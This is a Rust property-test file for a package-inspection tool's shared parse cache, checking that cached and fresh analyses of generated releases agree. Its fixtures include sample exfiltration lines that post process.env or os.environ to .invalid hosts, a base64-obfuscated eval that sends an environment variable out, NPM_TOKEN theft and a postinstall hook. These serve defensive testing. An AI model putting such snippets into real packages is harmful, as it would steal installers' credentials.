//! What is known is what would be read, and no more of it than there is room for.

use super::*;
use crate::unpack::{Content, Entry as File, Tree, kind_of};
use crate::{Reader, inspect_tree};
use proptest::prelude::*;

const MANIFESTS: [&str; 3] = [
    r#"{"name": "a", "main": "a.js", "scripts": {"postinstall": "node b.js"}}"#,
    r#"{"name": "a", "main": "data.txt", "dependencies": {"d": "1"}}"#,
    r#"{"name": "a", "main": "a.ts", "bin": "a.mjs"}"#,
];
const PATHS: [&str; 11] = [
    "a.js",
    "b.js",
    "a.mjs",
    "b.cjs",
    "a.ts",
    "c.tsx",
    "data.txt",
    "setup.py",
    "d/__init__.py",
    "build.rs",
    "node_modules/d/index.js",
];
const CODE: [&str; 11] = [
    "fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)});",
    "module.exports = require('./b.js'); require('child_process').exec(module.exports.k);",
    "exports.k = process.env.NPM_TOKEN; require('./data.txt');",
    "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vYy5pbnZhbGlkLycgKyBwcm9jZXNzLmVudi5LKQ==', 'base64').toString());",
    "const {k} = require('d'); import('./a.mjs').then(a => a.default(k));",
    "const x: string = <any>process.env.A; export default x;",
    "const e = <div>{process.env.A}</div>; export default e;",
    "import os, urllib.request\nurllib.request.urlopen('https://c.invalid', data=str(os.environ).encode())",
    "fn main() { std::process::Command::new(\"id\").spawn(); }",
    "with (a) { b }",
    "}{ (",
];

/// Code as it may stand in a file: plain, with a mark, in UTF-16.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    (prop::sample::select(CODE.to_vec()), 0..3).prop_map(|(code, form)| {
        let text = format!("{code}{}", "\n".repeat(LEAST));
        match form {
            0 => text.into_bytes(),
            1 => [&b"\xef\xbb\xbf"[..], text.as_bytes()].concat(),
            _ => [0xff, 0xfe]
                .into_iter()
                .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
                .collect(),
        }
    })
}

fn file(path: &str, bytes: &[u8]) -> File {
    File {
        path: format!("package/{path}"),
        content: Content::Whole(bytes.into()),
        length: bytes.len() as u64,
        kind: kind_of(bytes),
        executable: false,
    }
}

fn release() -> impl Strategy<Value = Tree> {
    let one = (prop::sample::select(PATHS.to_vec()), bytes());
    let files = prop::collection::vec(one, 1..7);
    (prop::sample::select(MANIFESTS.to_vec()), files).prop_map(|(manifest, files)| {
        let mut entries = vec![file("package.json", manifest.as_bytes())];
        entries.extend(files.iter().map(|(path, bytes)| file(path, bytes)));
        Tree {
            entries,
            ..Tree::default()
        }
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn what_is_said_of_a_release_is_the_same_whatever_was_read_before(releases in prop::collection::vec(release(), 1..4), most in prop::sample::select(vec![0_usize, 6 << 10, 40 << 10, 1 << 20])) {
        let reader = Reader::new(most);
        for tree in releases.iter().chain(&releases) {
            prop_assert_eq!(reader.inspect_tree(tree), inspect_tree(tree));
        }
    }
}

/// Whether it was known what a text says.
fn is_known(shared: &Shared, path: &str, text: &str) -> bool {
    let before = shared.reused().known_files;
    let content = ContentId::of(text.as_bytes());
    shared.read(Language::JavaScript, path, text.as_bytes(), || {
        Some(content)
    });
    assert!(shared.0.borrow().weight <= shared.0.borrow().most);
    shared.reused().known_files > before
}

fn code(number: u8) -> String {
    format!("f({});{}", number % 10, " ".repeat(LEAST))
}

#[test]
fn a_text_is_known_by_its_bytes_and_by_the_dialects_that_are_tried() {
    let shared = Shared::new(1 << 20);
    assert!(!is_known(&shared, "a.js", &code(0)));
    assert!(is_known(&shared, "b/c.jsx", &code(0)));
    assert!(!is_known(&shared, "a.ts", &code(0)));
    assert!(!is_known(&shared, "a.js", &code(1)));
    let content = ContentId::of(code(0).as_bytes());
    let python = shared.read(Language::Python, "a.js", code(0).as_bytes(), || {
        Some(content)
    });
    let program = python.program.expect("a program");
    assert_eq!(program.language, Language::Python);
    assert_eq!(shared.reused().files, 5);
    assert_eq!(shared.reused().known_bytes, code(0).len() as u64);
}

#[test]
fn that_a_text_is_no_program_is_known_as_well() {
    let shared = Shared::new(1 << 20);
    let text = format!("}}{{ ({}", " ".repeat(LEAST));
    assert!(!is_known(&shared, "a.js", &text));
    assert!(is_known(&shared, "a.js", &text));
    let content = ContentId::of(text.as_bytes());
    let read = shared.read(Language::JavaScript, "a.js", text.as_bytes(), || {
        Some(content)
    });
    let fresh = super::read(Language::JavaScript, "a.js", text.as_bytes());
    assert!(read.error.is_some() && read.program.is_none());
    assert_eq!(read.error, fresh.error);
}

#[test]
fn room_is_made_by_what_was_used_for_earlier_trees_only() {
    let endless = Shared::new(usize::MAX);
    is_known(&endless, "a.js", &code(0));
    let one = endless.0.borrow().weight;
    let shared = Shared::new(2 * one + one / 2);
    let known = |number| is_known(&shared, "a.js", &code(number));
    shared.begin();
    assert_eq!([0, 1, 2].map(known), [false; 3]);
    assert_eq!([2, 0, 1].map(known), [false, true, true]);
    shared.begin();
    assert_eq!(
        [1, 2, 2, 1, 0, 0].map(known),
        [true, false, true, true, false, false]
    );
}

#[test]
fn a_text_that_the_machine_counts_as_large_is_not_shared() {
    let shared = Shared::new(64 << 20);
    let code = |length| format!("f('{}')", "a".repeat(length));
    assert!(!is_known(&shared, "a.js", &code(evaluating::LARGE)));
    assert!(!is_known(&shared, "a.js", &code(evaluating::LARGE)));
    assert!(!is_known(&shared, "a.js", &code(evaluating::LARGE - 1)));
    assert!(is_known(&shared, "a.js", &code(evaluating::LARGE - 1)));
}

#[test]
fn small_files_and_heavy_ones_are_read_anew() {
    let shared = Shared::new(4 << 10);
    assert!(!is_known(&shared, "a.js", "f();"));
    assert!(!is_known(&shared, "a.js", "f();"));
    let heavy = "f(1);".repeat(1_000);
    assert!(!is_known(&shared, "a.js", &heavy));
    assert!(!is_known(&shared, "a.js", &heavy));
    assert_eq!(shared.0.borrow().weight, 0);
}
